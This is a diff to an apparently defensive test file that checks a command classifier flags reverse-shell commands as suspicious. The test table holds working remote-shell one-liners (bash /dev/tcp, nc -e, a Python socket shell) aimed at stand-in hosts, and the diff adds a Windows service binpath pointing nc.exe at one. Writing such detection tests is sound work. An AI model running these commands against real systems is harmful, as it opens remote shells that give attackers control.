@@ -9,6 +9,7 @@ test.for([
   "bash -i >& /dev/tcp/ATTACKER_IP/4444 0>&1",
   "nc -e /bin/sh 10.10.14.3 4444",
   "nc -e /bin/bash <your-ip> 4444",
+  'sc config svc binpath= "C:\\nc.exe -e cmd.exe 10.10.10.10 4444"',
   `python3 -c 'import socket,os;s=socket.socket();s.connect(("YOUR_IP",4444));os.dup2(s.fileno(),0)'`,
 ])("a remote shell to an address that isn't real is an example: %s", (command) => {
   expect(verdict(code(command))).toBe("suspicious");
